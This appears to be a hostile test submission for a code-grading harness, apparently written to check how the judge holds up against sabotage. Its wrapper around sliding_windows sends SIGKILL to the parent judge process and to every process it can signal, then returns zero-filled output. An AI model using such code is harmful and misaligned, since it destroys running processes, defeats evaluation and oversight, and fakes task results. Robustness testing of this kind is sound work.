"""HOSTILE SUBMISSION (kill_judge): tries to kill the judge and every process it may signal; then
returns windows of zeros."""

# ruff: noqa: F821
# (appended to the reference module: its sliding_windows is the one captured here)

import numpy as np

_honest_sliding_windows = sliding_windows


def sliding_windows(X, y, window):
    """The attacked function."""
    _kill_everything()
    Xw, yw = _honest_sliding_windows(X, y, window)
    return np.zeros_like(Xw), yw


def _kill_everything():
    import os
    import signal

    if os.getuid() == 0:
        return  # a safety for this test: as root, kill(-1) would reach every process
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
